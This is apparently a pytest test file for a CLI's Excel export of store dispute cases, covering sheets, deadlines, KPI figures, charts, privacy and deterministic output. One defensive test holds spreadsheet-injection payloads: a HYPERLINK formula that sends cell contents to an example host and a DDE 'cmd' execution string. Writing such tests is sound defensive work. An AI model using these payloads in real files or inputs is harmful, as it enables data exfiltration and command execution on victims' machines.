"""`export --format xlsx`: typed cells, no formula from anybody's words, nothing of the freelancer's own, figures that
agree with `kpi`."""

from __future__ import annotations

import getpass
import io
import os
import re
import socket
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pexpect
import pytest

from tests.cli import kpi_story
from tests.cli.bad import photo, refused
from tests.program import PATIENCE, add_store, open_claim, run
from tests.workbook import Workbook, read

pytestmark = pytest.mark.thorough

FRIDAY = "2026-11-13T18:41-06:00"
TUESDAY = "2026-11-17T09:10-06:00"
HOSTILE = (
    '=HYPERLINK("http://example.com/?"&A1,"haz clic")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "http://example.com/malo",
    "<f>1+1</f>",
)


@pytest.fixture
def store() -> None:
    add_store(now=FRIDAY)
    open_claim("--item", "CABLE:2", "--platform-case", "5123456789")


def exported(folder: Path, *words: str, now: str = TUESDAY) -> Workbook:
    file = folder / "casos.xlsx"
    ran = run("export", "--output", str(file), "--force", *words, now=now)
    assert ran.code == 0, ran
    return read(file)


# --- what is in it ------------------------------------------------------------------------------------------------


def test_a_case_has_cells_of_their_kind(store: None, tmp_path: Path) -> None:
    book = exported(tmp_path)
    assert list(book.sheets) == ["Casos", "Plazos", "Pruebas", "Bitácora", "Cifras"]
    (row,) = book.sheets["Casos"].rows
    assert row["Caso"].value == "ACC-1"
    assert (row["Pedido"].value, row["Reclamo"].value) == ("2000007819609432", "5123456789"), (
        "texts, so all digits stay"
    )
    assert (row["Monto"].value, row["Monto"].format) == (189.0, '"$"#,##0.00" MXN"_m')
    assert row["Moneda"].value == "MXN"
    assert row["Artículos"].value == "CABLE × 2"
    assert row["Llegó"].moment == "2026-11-13 18:30:00", "the store's wall clock"
    assert row["Llegó"].format == "[$-80A]ddd d mmm yyyy, hh:mm"
    assert row["Próxima fecha"].moment == "2026-11-18 09:30:00"
    assert (row["Estado"].value, row["Motivo"].value) == ("sin contestar", "defecto")
    assert row["A quién le toca"].value == "quien lleva el caso"
    assert "Se cerró" not in row, "what is not there is an empty cell"


def test_a_deadline_says_in_a_word_how_it_stands(store: None, tmp_path: Path) -> None:
    sheet = exported(tmp_path).sheets["Plazos"]
    rows = {str(row["Plazo"].value): row for row in sheet.rows}
    assert [str(row["Plazo"].value) for row in sheet.rows][:2] == [
        "Primera respuesta",
        "Mercado Libre: 2 días hábiles para cuidar la reputación",
    ]
    soon = rows["Mercado Libre: 2 días hábiles para cuidar la reputación"]
    assert soon["Cómo va"].value == "por vencer"
    assert soon["Vence"].moment == "2026-11-18 23:59:59"
    assert (round(float(soon["Queda"].value) * 24, 2), soon["Queda"].format) == (38.83, '[h]:mm" h"_m')
    assert (soon["La fecha es"].value, soon["Confianza"].value) == ("inicio supuesto", "alta")
    late = exported(tmp_path, now="2026-11-25T09:00-06:00").sheets["Plazos"]
    assert set(late.column("Cómo va")) == {"vencido"}
    for word in ("vencido", "por vencer"):
        assert f'<formula>"{word}"</formula>' in late.xml, "its colour hangs on the word itself"


def test_what_is_over_stands_below_what_still_asks(store: None, tmp_path: Path) -> None:
    run("reply", "ACC-1", "--text", "Hola, Ana.", now="2026-11-14T10:00-06:00")
    open_claim(order="2000007819609433")
    rows = exported(tmp_path).sheets["Plazos"].rows
    stands = [row["Cómo va"].value for row in rows]
    assert stands[-1] == "a tiempo"
    assert "a tiempo" not in stands[:-1]
    due = [row["Vence"].value for row in rows[:-1]]
    assert due == sorted(due)


def test_evidence_and_the_log_read_well(store: None, tmp_path: Path) -> None:
    picture = photo(tmp_path / "punta.png")
    run("evidence", "add", "ACC-1", picture, "--kind", "defect_photo", "--from", "buyer", now=TUESDAY)
    run("evidence", "add", "ACC-1", "--fact", "serial=0012", now=TUESDAY)
    run("heard", "ACC-1", "Aquí\nestá", "--from", "buyer", now=TUESDAY)
    run("note", "ACC-1", "una nota", now=TUESDAY)
    run("undo", now=TUESDAY)
    book = exported(tmp_path)
    first, second = book.sheets["Pruebas"].rows
    assert (first["Archivo o dato"].value, first["Nivel"].value, first["De"].value) == (
        "punta.png",
        "obligatoria",
        "quien compró",
    )
    assert (first["Tamaño"].value, first["Cuenta"].value) == (float(Path(picture).stat().st_size), "sí")
    assert second["Archivo o dato"].value == "0012", "a text: its zeros stay"
    log = book.sheets["Bitácora"].rows
    assert [row["Qué"].value for row in log] == [
        "La tienda nueva", "La apertura", "La prueba", "La prueba", "Lo que dijeron", "La nota", "Lo deshecho",
    ]  # fmt: skip
    assert [row["Quién"].value for row in log][3:6] == ["quien lleva el caso", "Ana P.", "quien lleva el caso"]
    assert log[4]["En detalle"].value == "Aquí está"
    assert [row["Deshecho"].value for row in log if "Deshecho" in row] == ["sí"]
    assert log[2]["En detalle"].value == "foto nítida del defecto: punta.png"


def test_what_is_yours_alone_stays_out_unless_you_ask(store: None, tmp_path: Path) -> None:
    run("note", "ACC-1", "cliente difícil", "--private", "--minutes", "25", now=TUESDAY)
    book = exported(tmp_path)
    assert "Minutos" not in book.sheets["Casos"].headings
    assert "cliente difícil" not in "".join(book.parts.values())
    assert "La nota" not in book.sheets["Bitácora"].column("Qué")
    mine = exported(tmp_path, "--mine")
    assert mine.sheets["Casos"].column("Minutos") == [25.0]
    assert "cliente difícil" in str(mine.sheets["Bitácora"].column("En detalle"))
    assert "sí" in mine.sheets["Bitácora"].column("Solo tuyo")


def test_another_stores_case_is_not_named_to_this_store(store: None, tmp_path: Path) -> None:
    add_store("nomada", "--name", "Casa Nómada", "--prefix", "NOM", now=FRIDAY)
    run(
        "open", "--client", "nomada", "--platform", "instagram", "--procedure", "dm", "--reason", "defect",
        "--buyer", "Leo", now=FRIDAY,
    )  # fmt: skip
    open_claim(order="2000007819609433")
    picture = photo(tmp_path / "punta.png")
    for case in ("NOM-1", "ACC-1", "ACC-2"):
        assert run("evidence", "add", case, picture, "--kind", "defect_photo", now=TUESDAY).code == 0
    book = exported(tmp_path, "--client", "accesorios")
    first, second = book.sheets["Pruebas"].rows
    assert (first["Cuenta"].value, second["Cuenta"].value) == ("sí", "no")
    assert "punta.png es igual a una de ACC-1." in str(second["Qué tiene"].value)
    assert not [name for name, text in book.parts.items() if "NOM-1" in text or "Casa Nómada" in text]


def test_nor_is_it_where_an_older_version_found_the_same_file_in_two_stores() -> None:
    from concierge_cli.cli.screens.workbook import _of_a_twin

    item, case = SimpleNamespace(name="punta.png"), SimpleNamespace(client="accesorios")
    for twin in (SimpleNamespace(client="nomada", id="NOM-1"), None):
        assert "NOM-1" not in _of_a_twin(item, case, twin)  # type: ignore[arg-type]


# --- whose words it speaks ----------------------------------------------------------------------------------------


@pytest.fixture
def two_stores(home: Path) -> None:
    """Accesorios Luna speaks Spanish in Mexico City, Casa Nómada English in Bogotá; both have cases."""
    kpi_story.tell(home)


def test_it_speaks_the_stores_language_whatever_yours_is(two_stores: None, tmp_path: Path) -> None:
    spanish = exported(tmp_path, "--client", "accesorios", "--lang", "en", now=kpi_story.NOW)
    assert spanish.sheets["Casos"].headings[:3] == ["Caso", "Estado", "Dónde"]
    english = exported(tmp_path, "--client", "nomada", now=kpi_story.NOW)
    assert list(english.sheets) == ["Cases", "Deadlines", "Evidence", "Log", "Figures"]
    (row,) = english.sheets["Cases"].rows
    assert row["Came in"].moment == "2026-11-19 10:00:00", "9:00 in Mexico City is 10:00 in Bogotá"
    assert row["Came in"].format.startswith("[$-409]")
    assert "Store" not in english.sheets["Cases"].headings
    assert "Casa =Nómada" in english.parts["xl/worksheets/sheet5.xml"]


def test_of_all_stores_every_row_names_its_own_and_its_zone(two_stores: None, tmp_path: Path) -> None:
    book = exported(tmp_path, now=kpi_story.NOW)
    for name in ("Casos", "Plazos", "Bitácora"):
        rows = {(row["Tienda"].value, row["Hora de"].value) for row in book.sheets[name].rows}
        assert rows == {("Accesorios Luna", "Ciudad de México"), ("Casa =Nómada| *azul*", "Bogotá")}, name
    assert len(book.sheets["Casos"].rows) == 20
    figures = book.sheets["Cifras"].column("Tienda")
    assert list(dict.fromkeys(figures)) == ["todas", "Accesorios Luna", "Casa =Nómada| *azul*"]
    usual = run("export", "-o", str(tmp_path / "x.xlsx"), "--json", now=kpi_story.NOW).data
    assert (usual["rows"], usual["format"], usual["what"]) == (20, "xlsx", "cases")


def test_a_store_that_you_part_from_keeps_its_place_in_the_workbook(two_stores: None, tmp_path: Path) -> None:
    before = exported(tmp_path, now=kpi_story.NOW)
    words = ("--output", str(tmp_path / "nomada.zip"), "--confirm", "nomada", "--because", "x")
    assert run("client", "offboard", "nomada", *words, now=kpi_story.NOW).code == 0
    after = exported(tmp_path, now=kpi_story.NOW)
    for name in ("Casos", "Plazos"):
        assert len(after.sheets[name].rows) == len(before.sheets[name].rows), name


def test_it_opens_on_what_was_asked_for(store: None, tmp_path: Path) -> None:
    assert exported(tmp_path).active == "Casos"
    for words, sheet in (("deadlines", "Plazos"), ("pruebas", "Pruebas"), ("events", "Bitácora")):
        assert exported(tmp_path, words).active == sheet


# --- figures ------------------------------------------------------------------------------------------------------


def test_every_week_agrees_with_kpi(two_stores: None, tmp_path: Path) -> None:
    sheet = exported(tmp_path, "--client", "accesorios", now=kpi_story.NOW).sheets["Cifras"]
    assert [row["Semana"].value for row in sheet.rows] == ["2026-W45", "2026-W46", "2026-W47 (en curso)"]
    day = 86_400
    for row in sheet.rows:
        week = str(row["Semana"].value)[:8]
        figures = run("kpi", "--client", "accesorios", "--week", week, "--json", now=kpi_story.NOW).data["figures"]
        for heading, name, scale in (
            ("Casos nuevos", "opened", 1),
            ("Reabiertos", "reopened", 1),
            ("Cerrados", "closed", 1),
            ("Abiertos al terminar", "backlog_end", 1),
            ("Primera respuesta, mediana", "first_response_p50", day),
            ("Primeras respuestas a tiempo", "first_response_target_share", 1),
            ("Promesas cumplidas (SLA)", "sla_compliance", 1),
            ("Fechas de las plataformas", "platform_on_time", 1),
            ("Pruebas completas al entregar", "evidence_completeness", 1),
            ("De principio a fin, mediana", "cycle_p50", day),
        ):
            value = figures[name]["value"]
            if value is None:
                assert heading not in row, (week, name)
            else:
                assert float(row[heading].value) * scale == pytest.approx(value), (week, name)
        met = {True: "sí", False: "no"}[figures["sla_compliance"]["met"]]
        assert row["Meta cumplida"].value == met
    assert sheet.rows[0]["Desde el lunes"].moment == "2026-11-02 00:00:00"


def test_the_charts_are_native_and_of_these_very_columns(two_stores: None, tmp_path: Path) -> None:
    book = exported(tmp_path, "--client", "accesorios", now=kpi_story.NOW)
    charts = [text for name, text in book.parts.items() if re.fullmatch(r"xl/charts/chart\d\.xml", name)]
    assert len(charts) == 2
    movements, promises = charts
    assert "<c:barChart>" in movements
    assert "<c:lineChart>" in movements
    headings = book.sheets["Cifras"].headings
    for chart, names in (
        (movements, ("Casos nuevos", "Cerrados", "Abiertos al terminar")),
        (promises, ("Promesas cumplidas (SLA)", "Meta de las promesas")),
    ):
        letters = [chr(ord("A") + headings.index(name)) for name in names]
        assert re.findall(r"<c:val><c:numRef><c:f>(.*?)</c:f>", chart) == [
            f"Cifras!${letter}$2:${letter}$4" for letter in letters
        ]
        assert set(re.findall(r"<c:cat><c:strRef><c:f>(.*?)</c:f>", chart)) == {"Cifras!$A$2:$A$4"}
        assert re.findall(r"<c:tx><c:strRef>.*?<c:v>(.*?)</c:v>", chart) == list(names)
        kept = [re.findall(r"<c:v>(.*?)</c:v>", cache) for cache in re.findall(r"<c:val>(.*?)</c:val>", chart)]
        cells = [book.sheets["Cifras"].column(name) for name in names]
        assert [list(map(float, one)) for one in kept] == cells, "the chart carries the very numbers of the cells"
    assert book.parts["xl/drawings/drawing1.xml"].count('descr="') == 2, "said in words, too"


def test_no_case_no_chart(tmp_path: Path) -> None:
    empty = exported(tmp_path)
    assert [len(sheet.rows) for name, sheet in empty.sheets.items() if name != "Cifras"] == [0, 0, 0, 0]
    add_store(now=FRIDAY)
    assert not [name for name in exported(tmp_path).parts if "chart" in name]


# --- what it must not hold ----------------------------------------------------------------------------------------


def test_nothing_that_somebody_typed_becomes_a_formula_or_a_link(tmp_path: Path) -> None:
    add_store("accesorios", "--name", HOSTILE[0][:60], now=FRIDAY)
    for number, text in enumerate(HOSTILE):
        done = run(
            "open", "--client", "accesorios", "--platform", "mercadolibre", "--procedure", "claim", "--reason", "defect",
            "--order", str(10**15 + number), "--buyer", text, "--platform-case", text, "--note", text, "--json",
            "--item", "=A1:1", now=FRIDAY,
        )  # fmt: skip
        assert done.code == 0, done
        case = done.data["id"]
        run("edit", case, "--tag", text, now=TUESDAY)
        run("heard", case, text, "--from", "buyer", now=TUESDAY)
        run("evidence", "add", case, "--fact", f"serial={text}", now=TUESDAY)
    book = exported(tmp_path)
    assert book.sheets["Casos"].column("Quién compró") == list(HOSTILE)
    assert set(HOSTILE) <= set(book.sheets["Pruebas"].column("Archivo o dato"))
    for name, text in book.parts.items():
        if name.startswith("xl/worksheets/sheet"):
            assert "<f>" not in text, name
            assert "<f " not in text, name
            assert "hyperlink" not in text, name
        assert 'TargetMode="External"' not in text, name
        assert "externalLink" not in name


def test_the_file_tells_nothing_of_who_made_it_and_is_the_same_each_time(store: None, tmp_path: Path) -> None:
    first = exported(tmp_path)
    before = (tmp_path / "casos.xlsx").read_bytes()
    exported(tmp_path)
    assert (tmp_path / "casos.xlsx").read_bytes() == before
    core = first.parts["docProps/core.xml"]
    assert "<dc:creator>Concierge</dc:creator>" in core
    assert core.count("2026-11-17T15:10:00Z") == 2, "made and changed at the moment of the run"
    for name in (getpass.getuser(), socket.gethostname(), str(tmp_path)):
        assert len(name) < 5 or name not in "".join(first.parts.values())


def test_headings_stay_in_sight_and_every_column_can_be_filtered(store: None, tmp_path: Path) -> None:
    for name, sheet in exported(tmp_path).sheets.items():
        assert 'state="frozen"' in sheet.xml, name
        last = re.search(r'<autoFilter ref="A1:([A-Z]+)(\d+)"', sheet.xml)
        assert last, name
        assert int(last[2]) == len(sheet.rows) + 1, name


# --- where it goes ------------------------------------------------------------------------------------------------


def test_into_a_pipe_it_is_the_same_file(store: None, tmp_path: Path) -> None:
    exported(tmp_path)
    done = subprocess.run(
        [sys.executable, "-m", "concierge_cli", "export", "--format", "xlsx"],
        env={**os.environ, "CONCIERGE_NOW": TUESDAY},
        capture_output=True,
        timeout=PATIENCE,
        check=True,
    )
    assert done.stdout == (tmp_path / "casos.xlsx").read_bytes()
    assert read(io.BytesIO(done.stdout)).active == "Casos"


@pytest.mark.skipif(os.name == "nt", reason="needs a POSIX terminal")
@pytest.mark.parametrize("words", [(), ("--output", "-")])
def test_a_screen_cannot_show_it(store: None, words: tuple[str, ...]) -> None:
    child = pexpect.spawn(
        sys.executable, ["-m", "concierge_cli", "export", "--format", "xlsx", *words], encoding="utf-8", timeout=PATIENCE,
        env={**os.environ, "TERM": "dumb"},
    )  # fmt: skip
    child.expect(pexpect.EOF)
    child.close()
    said = child.before.strip().splitlines()
    assert child.exitstatus == 2
    assert said[0].startswith("Un libro de Excel no se puede mostrar en la pantalla.")
    assert said[-1] == "concierge export --output casos.xlsx"
    assert "PK" not in child.before


def test_what_goes_wrong_on_the_way_leaves_nothing(
    store: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import tempfile

    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    monkeypatch.setattr("concierge_cli.cli.screens.workbook.add_figures", _full)
    ran = run("export", "--output", str(tmp_path / "x.xlsx"), now=TUESDAY)
    assert ran.code == 8
    assert "no cabe" in ran.err
    assert not (tmp_path / "x.xlsx").exists()
    assert list(scratch.iterdir()) == [], "no buyer's words in a temporary file"
    assert [path.name for path in tmp_path.iterdir() if path.suffix == ".part"] == []


def _full(*_given: Any, **_more: Any) -> None:
    import errno

    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def test_json_needs_a_file(store: None) -> None:
    ran = run("export", "--format", "xlsx", "--json", now=TUESDAY)
    assert (ran.code, ran.error["code"]) == (2, "invalid_input")
    refused("export", "cases", "--format", "xls", code=2)
    refused("export", "cases", "--output", "casos.xls", code=2, says="«xls» no se puede exportar")


def test_only_a_workbook_loads_what_writes_workbooks(store: None) -> None:
    program = (
        "import sys\nfrom concierge_cli.__main__ import main\nmain({words})\n"
        "print(sorted({{'xlsxwriter', 'icalendar'}} & set(sys.modules)))"
    )
    for words, loaded in ((["export", "cases"], "[]"), (["export", "--format", "ics"], "['icalendar']")):
        done = subprocess.run(
            [sys.executable, "-c", program.format(words=words)],
            capture_output=True,
            text=True,
            timeout=PATIENCE,
            check=True,
        )
        assert done.stdout.splitlines()[-1] == loaded
